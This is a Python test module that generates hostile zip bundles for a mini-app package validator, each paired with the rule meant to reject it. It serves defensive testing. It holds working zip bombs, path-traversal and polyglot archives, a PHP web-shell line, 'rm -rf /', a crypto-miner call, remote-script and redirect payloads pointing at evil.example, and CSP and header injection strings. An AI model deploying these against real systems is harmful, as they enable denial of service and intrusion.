"""One generator for each attack on the reader, with the rule that must refuse it.

@attack("rule-id")
def what_the_attacker_does(): return bytes
"""

import json
import struct
import zlib
from collections.abc import Callable

from tests.hostile.bundles.raw_zip import File, build, deflate, good, head, manifest, page, streamed

Generator = Callable[[], bytes]
ATTACKS: dict[str, tuple[str, Generator]] = {}


def attack(rule: str) -> Callable[[Generator], Generator]:
    def register(generator: Generator) -> Generator:
        assert generator.__name__ not in ATTACKS
        ATTACKS[generator.__name__] = (rule, generator)
        return generator

    return register


def names(rule: str, **by_label: str | bytes) -> None:
    """An attack for each name: a bundle that is good but for one entry of that name."""
    for label, name in by_label.items():

        def generator(name: str | bytes = name) -> bytes:
            return good(File(name, b"body{}"))

        ATTACKS[label] = (rule, generator)


def manifests(rule: str, **by_label: bytes | dict) -> None:
    for label, content in by_label.items():
        file = File("manifest.json", content) if isinstance(content, bytes) else manifest(**content)

        def generator(file: File = file) -> bytes:
            return build(page(), file)

        ATTACKS[label] = (rule, generator)


def origins(**by_label: str) -> None:
    for label, origin in by_label.items():
        manifests("manifest-origin", **{label: {"barnamak": {"network": {"connect": [origin]}}}})


# --- the archive as a whole -------------------------------------------------------------------


@attack("archive-not-zip")
def nothing_at_all() -> bytes:
    return b""


@attack("archive-not-zip")
def a_gzip_instead() -> bytes:
    return b"\x1f\x8b\x08" + bytes(400)


@attack("archive-truncated")
def cut_in_half() -> bytes:
    whole = good()
    return whole[: len(whole) // 2]


@attack("archive-empty")
def an_empty_archive() -> bytes:
    return build()


@attack("archive-too-large")
def more_bytes_than_allowed() -> bytes:
    return b"PK\x03\x04" + bytes(20 * 1024 * 1024)


@attack("archive-prefix")
def polyglot_with_a_program_before() -> bytes:
    return b"MZ" + bytes(100) + good()


@attack("archive-prefix")
def polyglot_with_right_offsets() -> bytes:
    before = b"GIF89a" + bytes(60)
    return before + build(page(), manifest(), shift=len(before))


@attack("archive-prefix")
def two_archives_joined() -> bytes:
    return good() + good(File("b.css", b"b{}"))


@attack("archive-prefix")
def first_record_not_at_the_beginning() -> bytes:
    return build(File("hidden.js", b"x()", is_listed=False), page(), manifest())


@attack("archive-trailing-bytes")
def polyglot_with_something_after() -> bytes:
    return good() + b"<script>x()</script>"


@attack("archive-comment")
def a_long_comment() -> bytes:
    return build(page(), manifest(), comment=b"a" * 300)


@attack("archive-comment")
def a_binary_comment() -> bytes:
    return build(page(), manifest(), comment=b"\x00\x01\x02")


@attack("archive-ambiguous-end")
def end_record_hidden_in_the_comment() -> bytes:
    inner = build(File("index.html", b"evil"))
    return build(page(), manifest(), comment=inner)


@attack("archive-multi-disk")
def part_of_several_disks() -> bytes:
    return build(page(), manifest(), disk=1, start_disk=1)


@attack("archive-multi-disk")
def counts_of_disks_that_differ() -> bytes:
    return build(page(), manifest(), here=1)


@attack("archive-multi-disk")
def an_entry_on_another_disk() -> bytes:
    return build(page(), manifest(), File("a.css", b"a{}", central={"disk": 2}))


@attack("archive-zip64")
def zip64_end_record() -> bytes:
    files = page(), manifest()
    plain = build(*files)
    end_at = plain.rindex(b"PK\x05\x06")
    size, offset = struct.unpack_from("<LL", plain, end_at + 12)
    big = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 2, 2, size, offset)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end_at, 1)
    return plain[:end_at] + big + locator + plain[end_at:]


@attack("archive-zip64")
def zip64_marks_in_the_end_record() -> bytes:
    return build(page(), manifest(), offset=0xFFFFFFFF)


@attack("archive-zip64")
def sixty_five_thousand_entries_claimed() -> bytes:
    return build(page(), manifest(), here=0xFFFF, count=0xFFFF)


@attack("archive-too-many-entries")
def five_thousand_entries() -> bytes:
    return build(*(File(f"{number}.css", b"", method=0) for number in range(5_000)))


@attack("archive-too-many-entries")
def three_thousand_files() -> bytes:
    return good(*(File(f"{number}.css", b"", method=0) for number in range(3_000)))


@attack("archive-directory")
def fewer_rows_than_counted() -> bytes:
    return build(page(), manifest(), here=3, count=3)


@attack("archive-directory")
def more_rows_than_counted() -> bytes:
    return build(page(), manifest(), here=1, count=1)


@attack("archive-directory")
def directory_beyond_the_end() -> bytes:
    return build(page(), manifest(), offset=10**6)


@attack("archive-gap")
def an_entry_the_directory_does_not_list() -> bytes:
    return build(page(), File("hidden.js", b"x()", is_listed=False), manifest())


@attack("archive-gap")
def bytes_before_the_directory() -> bytes:
    return build(page(), manifest(), gap=b"hidden")


@attack("archive-overlap")
def full_overlap_bomb() -> bytes:
    kernel = File("0.css", bytes(1_000_000))
    others = [File(f"{n}.css", kernel.data) for n in range(1, 50)]
    plain = build(kernel)
    local = plain[: plain.index(b"PK\x01\x02")]
    rows = b"".join(file.central_record(0) for file in (kernel, *others))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 50, 50, len(rows), len(local), 0)
    return local + rows + end


@attack("archive-overlap")
def quoted_overlap_bomb() -> bytes:
    """Each entry's data quotes the next header as a stored block and goes on into its data."""
    kernel = File("n9.css", bytes(1_000_000))
    tail, inner, data, offsets = kernel.local_record(), kernel.bytes_packed(), kernel.data, [0]
    files = [kernel]
    for number in range(8, -1, -1):
        quote = len(tail) - len(inner)
        packed = struct.pack("<BHH", 0, quote, quote ^ 0xFFFF) + tail[:quote] + inner
        data = tail[:quote] + data
        file = File(f"n{number}.css", data, packed=packed)
        header = file.local_record()[: -len(packed)]
        step = len(header) + 5
        tail, inner = header + packed[:5] + tail, packed
        offsets = [0] + [offset + step for offset in offsets]
        files.insert(0, file)
    rows = b"".join(f.central_record(at) for f, at in zip(files, offsets, strict=True))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 10, 10, len(rows), len(tail), 0)
    return tail + rows + end


@attack("archive-ratio")
def flat_bomb() -> bytes:
    return good(*(File(f"{n}.png", bytes(9_000_000)) for n in range(4)))


@attack("archive-unpacked-size")
def sum_above_the_limit() -> bytes:
    return good(*(File(f"{n}.mp4", bytes(15_000_000)) for n in range(8)))


@attack("archive-unpacked-size")
def sum_claimed_above_the_limit() -> bytes:
    return good(
        File("a.mp4", b"x", method=8, central={"unpacked": 2**31}, local={"unpacked": 2**31})
    )


# --- entries ----------------------------------------------------------------------------------


def _differs(**local: object) -> bytes:
    return good(File("a.css", b"a{}", local=local))


@attack("entry-header-mismatch")
def another_name_in_the_local_header() -> bytes:
    return _differs(name=b"b.css")


@attack("entry-header-mismatch")
def another_size_in_the_local_header() -> bytes:
    return _differs(unpacked=9)


@attack("entry-header-mismatch")
def another_checksum_in_the_local_header() -> bytes:
    return _differs(crc=9)


@attack("entry-header-mismatch")
def another_method_in_the_local_header() -> bytes:
    return _differs(method=0)


@attack("entry-header-mismatch")
def other_flags_in_the_local_header() -> bytes:
    return _differs(flags=1 << 11)


@attack("entry-header-mismatch")
def zip64_sizes_that_differ() -> bytes:
    extra = struct.pack("<HHQQ", 1, 16, 3, 3)
    return good(File("a.css", b"a{color:red}", extra_local=extra, local={"unpacked": 0xFFFFFFFF}))


@attack("entry-descriptor")
def descriptor_that_lies_about_the_size() -> bytes:
    return good(streamed(File("a.css", b"a{}"), unpacked=10))


@attack("entry-descriptor")
def descriptor_that_lies_about_the_checksum() -> bytes:
    return good(streamed(File("a.css", b"a{}"), crc=10))


@attack("entry-descriptor")
def descriptor_that_is_missing() -> bytes:
    file = streamed(File("a.css", b"a{}"))
    file.descriptor = b""
    return good(file)


@attack("entry-descriptor")
def bytes_hidden_after_the_descriptor() -> bytes:
    file = streamed(File("a.css", b"a{}"))
    file.after = b"hidden"
    return good(file)


@attack("entry-zip64")
def zip64_sizes_in_the_directory() -> bytes:
    extra = struct.pack("<HHQ", 1, 8, 3)
    return good(File("a.css", b"a{}", extra_central=extra, central={"unpacked": 0xFFFFFFFF}))


@attack("entry-zip64")
def zip64_field_that_nobody_needs() -> bytes:
    return good(File("a.css", b"a{}", extra_central=struct.pack("<HHQ", 1, 8, 99)))


@attack("entry-extra")
def extra_field_longer_than_its_block() -> bytes:
    return good(File("a.css", b"a{}", extra_central=struct.pack("<HH", 0x5455, 50)))


@attack("entry-extra")
def extra_field_twice() -> bytes:
    return good(File("a.css", b"a{}", extra_local=struct.pack("<HHHH", 0x5455, 0, 0x5455, 0)))


@attack("entry-extra")
def extra_block_with_a_rest() -> bytes:
    return good(File("a.css", b"a{}", extra_local=b"\x00\x00\x00"))


@attack("entry-unicode-path")
def second_name_in_an_extra_field() -> bytes:
    other = b"evil.html"
    extra = struct.pack("<HHBL", 0x7075, 5 + len(other), 1, zlib.crc32(b"a.css")) + other
    return good(File("a.css", b"a{}", extra_central=extra))


@attack("entry-unicode-path")
def second_name_with_a_wrong_checksum() -> bytes:
    extra = struct.pack("<HHBL", 0x7075, 5 + len(b"a.css"), 1, 7) + b"a.css"
    return good(File("a.css", b"a{}", extra_local=extra))


@attack("name-duplicate")
def the_start_page_in_this_folder() -> bytes:
    return good(File("./index.html", b"evil"))


@attack("entry-encrypted")
def encrypted_entry() -> bytes:
    return good(File("a.css", b"a{}", flags=1))


@attack("entry-encrypted")
def strongly_encrypted_entry() -> bytes:
    return good(File("a.css", b"a{}", flags=1 | 1 << 6))


@attack("entry-encrypted")
def aes_in_an_extra_field() -> bytes:
    extra = struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8)
    return good(File("a.css", b"a{}", extra_central=extra, extra_local=extra))


@attack("entry-flags")
def patched_data() -> bytes:
    return good(File("a.css", b"a{}", flags=1 << 5))


@attack("entry-method")
def lzma_entry() -> bytes:
    return good(File("a.css", b"a{}", method=14))


@attack("entry-method")
def unknown_method() -> bytes:
    return good(File("a.css", b"a{}", method=99))


@attack("entry-symlink")
def symbolic_link() -> bytes:
    return good(File("a.css", b"/etc/passwd", mode=0o120777))


@attack("entry-symlink")
def symbolic_link_said_to_be_made_on_windows() -> bytes:
    return good(File("a.css", b"/etc/passwd", mode=0o120777, made_by=0))


@attack("entry-special")
def device_file() -> bytes:
    return good(File("a.css", b"", mode=0o020666))


@attack("entry-special")
def named_pipe() -> bytes:
    return good(File("a.css", b"", mode=0o010666))


@attack("entry-kind")
def folder_with_content() -> bytes:
    return good(File("a/", b"content", mode=0o040755))


@attack("entry-kind")
def file_said_to_be_a_folder() -> bytes:
    return good(File("a.css", b"a{}", mode=0o040755))


@attack("entry-kind")
def folder_said_to_be_a_file() -> bytes:
    return good(File("a/", b"", mode=0o100644))


@attack("entry-too-large")
def script_of_six_megabytes() -> bytes:
    return good(File("a.js", b"x();\n" * 1_300_000))


@attack("entry-size-lie")
def bomb_that_claims_ten_bytes() -> bytes:
    bomb = deflate(bytes(64 * 1024 * 1024))
    return good(File("a.png", bytes(10), packed=bomb))


@attack("entry-size-lie")
def fewer_bytes_than_claimed() -> bytes:
    return good(File("a.css", b"aaaaaaaaaa", packed=deflate(b"aaa")))


@attack("entry-size-lie")
def stored_sizes_that_differ() -> bytes:
    return good(File("a.css", b"aaaaaaaaaa", method=0, packed=b"aaa"))


@attack("entry-crc")
def wrong_checksum() -> bytes:
    return good(File("a.css", b"a{}", local={"crc": 1}, central={"crc": 1}))


@attack("entry-corrupt")
def data_that_is_not_deflate() -> bytes:
    return good(File("a.css", b"a{}", packed=b"\xff\xff\xff\xff"))


@attack("entry-corrupt")
def bytes_after_the_end_of_the_stream() -> bytes:
    return good(File("a.css", b"a{}", packed=deflate(b"a{}") + b"hidden"))


@attack("entry-corrupt")
def stream_that_does_not_end() -> bytes:
    packed = deflate(b"a{color:red}" * 50)
    return good(File("a.css", b"a{color:red}" * 50, packed=packed[:-2]))


# --- names ------------------------------------------------------------------------------------

names(
    "name-traversal",
    parent_folder="../evil.css",
    parent_folder_in_the_middle="a/../../evil.css",
    this_folder="a/./evil.css",
    this_folder_twice="././evil.css",
    empty_segment="a//evil.css",
)
names(
    "name-absolute",
    absolute_path="/etc/evil.css",
    windows_drive="C:/evil.css",
    windows_drive_relative="C:evil.css",
    windows_share="\\\\server\\share\\evil.css",
)
names("name-backslash", windows_path="a\\evil.css", windows_parent="..\\evil.css")
names(
    "name-forbidden-character", alternate_stream="a.css:evil", wild="a*.css", percent="%2e%2e.css"
)
names("name-control-character", nul_in_the_name=b"a.css\x00.png", newline_in_the_name=b"a\nb.css")
names(
    "name-invisible-character",
    right_to_left_override="a\u202esc.css",
    zero_width_joiner="a\u200db.css",
    private_use="a\ue000.css",
)
names("name-not-utf8", latin_one=b"caf\xe9.css")
names("name-too-long", long_name="a" * 300 + ".css", long_name_of_many_bytes="س" * 150 + ".css")
names("name-too-deep", deep_folders="a/" * 20 + "a.css")
names(
    "name-trailing-dot",
    trailing_dot="a./b.css",
    trailing_space="a /b.css",
    leading_space="a/ b.css",
)
names("name-device", device_name="con.css", device_folder="aux/a.css", device_case="LpT1.css")
names(
    "name-dot-file",
    environment=".env",
    git=".git/config.json",
    well_known=".well-known/assetlinks.json",
)
names("name-reserved", platform_files="~b/relay.js", wide_tilde="～v/a.css")


@attack("name-not-utf8")
def another_code_page_without_the_flag() -> bytes:
    return good(File("گل.css".encode(), b"a{}", flags=0, made_by=0))


@attack("name-duplicate")
def the_start_page_twice() -> bytes:
    return good(File("index.html", b"evil"))


@attack("name-collision")
def the_same_but_for_case() -> bytes:
    return good(File("Index.HTML", b"evil"))


@attack("name-collision")
def the_same_but_for_width() -> bytes:
    return good(File("a.css", b"a{}"), File("ａ.css", b"b{}"))


@attack("name-collision")
def the_same_but_for_composition() -> bytes:
    return good(
        File("\u0622.css", b"a{}"), File("\u0627\u0653.css", b"b{}"), File("ﬁ.css"), File("fi.css")
    )


@attack("name-duplicate")
def composed_and_decomposed() -> bytes:
    return good(File("\u0622.css", b"a{}"), File("\u0627\u0653.css", b"b{}"))


@attack("name-collision")
def folders_the_same_but_for_case() -> bytes:
    return good(File("assets/a.css", b"a{}"), File("Assets/b.css", b"b{}"))


@attack("name-file-and-folder")
def a_file_that_is_a_folder() -> bytes:
    return good(File("a.css", b"a{}"), File("a.css/b.css", b"b{}"))


@attack("name-file-and-folder")
def a_folder_that_is_a_file() -> bytes:
    return good(File("a.css/", b"", mode=0o040755), File("a.css", b"a{}"))


# --- content ----------------------------------------------------------------------------------


def _png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + struct.pack(">LL", width, height) + bytes(20)


def contents(rule: str, **by_label: tuple[str, bytes]) -> None:
    for label, (name, data) in by_label.items():

        def generator(name: str = name, data: bytes = data) -> bytes:
            return good(File(name, data))

        ATTACKS[label] = (rule, generator)


EXE = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(10) + b"\xff\xc0\x00\x11\x08"
contents(
    "content-type",
    server_page=("a.php", b"<?php x();"),
    program=("a.exe", EXE),
    archive_by_name=("a.zip", b"PK\x03\x04"),
    xhtml=("a.xhtml", b"<html/>"),
    no_extension=("payload", b"x"),
    html_application=("a.hta", b"x"),
)
contents(
    "content-executable",
    program_as_picture=("a.png", EXE),
    program_as_script=("a.js", EXE),
    linux_program_as_font=("a.woff2", b"\x7fELF\x02\x01\x01" + bytes(60)),
    shell_script_as_text=("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    java_class_as_picture=("a.jpg", b"\xca\xfe\xba\xbe" + bytes(60)),
)
contents(
    "content-archive",
    nested_archive=("a.png", good()),
    nested_gzip=("a.wasm", b"\x1f\x8b\x08" + bytes(60)),
    nested_tar=("a.mp4", b"a.txt" + bytes(252) + b"ustar\x0000" + bytes(200)),
    nested_7z=("a.ttf", b"7z\xbc\xaf\x27\x1c" + bytes(60)),
)
contents(
    "content-disguised",
    page_as_picture=("a.png", b"<html><script>x()</script>"),
    gif_as_png=("a.png", b"GIF89a" + bytes(60)),
    text_as_svg=("a.svg", b"hello"),
    page_as_font=("a.woff2", b"<html>"),
)
contents(
    "content-not-utf8",
    sixteen_bit_page=("a.html", "<html>سلام".encode("utf-16")),
    picture_as_script=("a.js", b"\xff\xd8\xff\xe0" + bytes(100)),
    nul_in_a_script=("a.js", b"x();\x00y();"),
    latin_one_text=("a.txt", b"caf\xe9"),
)
contents(
    "content-server-side", php_in_a_page=("a.html", b"<meta charset=utf-8><?php system($_GET[0]);")
)
contents(
    "image-too-large",
    huge_png=("a.png", _png(30_000, 30_000)),
    wide_png=("a.png", _png(9_000, 10)),
    huge_gif=("a.gif", b"GIF89a" + struct.pack("<HH", 60_000, 60_000)),
    huge_jpeg=("a.jpg", JPEG + struct.pack(">HH", 30_000, 30_000) + bytes(20)),
    huge_webp=("a.webp", b"RIFF\x00\x00\x00\x00WEBPVP8X" + bytes(8) + b"\xff\xff\x00\xff\xff\x00"),
    huge_lossless_webp=(
        "a.webp",
        b"RIFF\x00\x00\x00\x00WEBPVP8L\x00\x00\x00\x00\x2f\xff\xff\xff\x0f",
    ),
    huge_lossy_webp=(
        "a.webp",
        b"RIFF\x00\x00\x00\x00WEBPVP8 " + bytes(7) + b"\x9d\x01\x2a\xff\x3f\xff\x3f",
    ),
)
contents(
    "image-unreadable",
    png_without_a_header=("a.png", b"\x89PNG\r\n\x1a\n" + bytes(40)),
    jpeg_without_a_size=("a.jpg", b"\xff\xd8\xff\xd9" + bytes(40)),
    png_of_no_pixels=("a.png", _png(0, 10)),
)
contents("code-hidden", packed_code=("a.js", b"window.x=1;eval(atob('YWxlcnQoMSk='))"))
contents("code-miner", miner=("a.js", b"var m = new CoinHive.Anonymous('key'); m.start()"))
contents(
    "secret-private-key",
    private_key=("a.txt", b"-----BEGIN RSA PRIVATE " + b"KEY-----\n" + b"MIIEpAIBAAKCAQEA" * 4),
    private_key_in_a_string=(
        "a.js",
        b'k="-----BEGIN PRIVATE ' + b'KEY-----\\nMIIEpAIBAAKCAQEAAAAA"',
    ),
)
contents(
    "secret-found",
    aws_key=("a.js", b'k="AKIA' + b'IOSFODNN7EXAMPLE"'),
    bot_token=("a.js", b'k="123456789:' + b'AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawx"'),
    github_token=("a.map", b'{"k":"ghp_' + b'0123456789abcdefghijABCDEFGHIJ012345"}'),
    our_own_key=("a.js", b'k="bnk_' + b'0123456789abcdefghij"'),
)
contents("js-remote-code", remote_module=("a.js", b'import "https://evil.example/a.js"'))


@attack("html-remote-script")
def script_from_elsewhere() -> bytes:
    return build(head(b'<script src="https://cdn.example/a.js"></script>'), manifest())


@attack("html-remote-script")
def script_that_looks_like_the_messengers() -> bytes:
    tag = b'<script src="https://telegram.org/js/telegram-web-app.js.evil.example/a.js"></script>'
    return build(head(tag), manifest())


@attack("html-remote-script")
def script_from_a_data_url() -> bytes:
    return build(head(b'<script src="data:text/javascript,x()"></script>'), manifest())


@attack("html-base")
def base_element() -> bytes:
    return build(head(b'<base href="https://evil.example/">'), manifest())


@attack("html-meta-refresh")
def meta_refresh() -> bytes:
    return build(head(b'<meta http-equiv="Refresh" content="0;url=//evil.example">'), manifest())


@attack("html-unreadable")
def comments_that_never_end() -> bytes:
    return build(page(b"<!--" * 200_000), manifest())


@attack("bundle-no-start-page")
def no_start_page() -> bytes:
    return build(File("a.html", page().data), manifest())


@attack("bundle-source-project")
def a_whole_project() -> bytes:
    return good(File("node_modules/react/index.js", b"x()"))


# --- manifest ---------------------------------------------------------------------------------


@attack("manifest-missing")
def no_manifest() -> bytes:
    return build(page())


@attack("manifest-too-large")
def manifest_of_a_hundred_kilobytes() -> bytes:
    return build(page(), manifest(description="x" * 100_000))


VERSION = b'"version":{"code":1,"name":"1"}'
manifests(
    "manifest-json",
    manifest_of_nothing=b"",
    manifest_with_a_comment=b'{/*x*/"app_id":"a"}',
    manifest_with_a_trailing_comma=b'{"app_id":"a",}',
    manifest_with_something_after=b"{}{}",
    manifest_with_an_open_string=b'{"app_id":"a',
    manifest_with_half_a_character=b'{"app_id":"\\ud800"}',
)
manifests(
    "manifest-bom",
    manifest_with_a_byte_order_mark=b'\xef\xbb\xbf{"app_id":"a","name":"b",' + VERSION + b"}",
)
manifests("manifest-duplicate-key", manifest_with_a_key_twice=b'{"app_id":"a","app_id":"b"}')
manifests(
    "manifest-too-deep",
    manifest_of_brackets=b"[" * 60_000,
    manifest_of_braces=b'{"a":' * 10_000,
)
manifests(
    "manifest-number",
    manifest_with_nan=b'{"version":{"code":NaN}}',
    manifest_with_infinity=b'{"version":{"code":-Infinity}}',
    manifest_with_a_huge_integer=b'{"version":{"code":' + b"9" * 5_000 + b"}}",
    manifest_with_a_fraction=b'{"version":{"code":1.5}}',
    manifest_with_an_exponent=b'{"version":{"code":1e5}}',
)
manifests("content-not-utf8", manifest_in_latin_one=b'{"name":"caf\xe9"}')
manifests("manifest-unknown-member", manifest_with_an_unknown_member={"eval": True})
manifests("manifest-missing-member", manifest_without_a_name=b'{"app_id":"a",' + VERSION + b"}")
manifests(
    "manifest-value",
    manifest_that_is_a_list=b"[]",
    manifest_with_a_number_for_a_name={"name": 7},
    manifest_with_a_bad_id={"app_id": "../evil"},
    manifest_with_a_huge_code={"version": {"code": 2**40, "name": "1"}},
)
manifests(
    "manifest-text",
    manifest_with_markup={"name": "<img src=x>"},
    manifest_with_a_direction_override={"name": "a\u202eb"},
    manifest_with_a_line_break={"app_id": "a.b\n"},
)
manifests(
    "manifest-permission",
    manifest_with_an_unknown_permission={"req_permissions": [{"name": "root", "reason": "x"}]},
)
manifests("manifest-page-missing", manifest_with_a_missing_page={"pages": ["start"]})
manifests("manifest-page-missing", manifest_with_a_page_outside={"pages": ["../../etc/passwd"]})
manifests(
    "manifest-screenshot-missing",
    manifest_with_a_screenshot_outside={
        "barnamak": {"screenshots": [{"src": "../../secret.png", "alt": "x"}]}
    },
)
manifests(
    "manifest-screenshot-type",
    manifest_with_a_page_for_a_screenshot={
        "barnamak": {"screenshots": [{"src": "index.html", "alt": "x"}]}
    },
)
manifests("manifest-icon-missing", manifest_with_a_missing_icon={"icons": [{"src": "i.png"}]})
origins(
    origin_with_a_directive="https://a.example; script-src *",
    origin_with_a_second_policy="https://a.example, default-src *",
    origin_with_a_quote="https://a.example' 'unsafe-eval",
    origin_with_a_line_break="https://a.example\r\nX-Evil: 1",
    origin_with_a_wildcard="https://*.example.com",
    origin_of_everything="*",
    origin_with_a_path="https://a.example/path",
    origin_with_a_slash="https://a.example/",
    origin_without_encryption="http://a.example",
    origin_of_data="data:",
    origin_by_address="https://10.0.0.1",
    origin_by_number="https://2130706433",
    origin_by_hex="https://0x7f.0.0.1",
    origin_by_address_six="https://[::1]",
    origin_of_this_machine="https://localhost",
    origin_below_localhost="https://a.localhost",
    origin_of_the_network="https://printer.local",
    origin_with_credentials="https://a@b.example",
    origin_with_a_bad_port="https://a.example:99999",
    origin_in_another_script="https://пример.example",
    origin_without_a_dot="https://intranet",
    origin_ending_in_a_dot="https://a.example.",
    origin_in_capitals="https://A.Example",
)


@attack("manifest-icon-type")
def icon_that_is_an_svg() -> bytes:
    icon = File("i.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>')
    return build(page(), manifest(icons=[{"src": "i.svg"}]), icon)


@attack("manifest-icon-size")
def icon_of_two_thousand_pixels() -> bytes:
    return build(page(), manifest(icons=[{"src": "i.png"}]), File("i.png", _png(2_000, 2_000)))


@attack("manifest-unknown-member")
def permission_hidden_in_the_extension() -> bytes:
    return build(page(), File("manifest.json", json.dumps({"barnamak": {"root": 1}}).encode()))
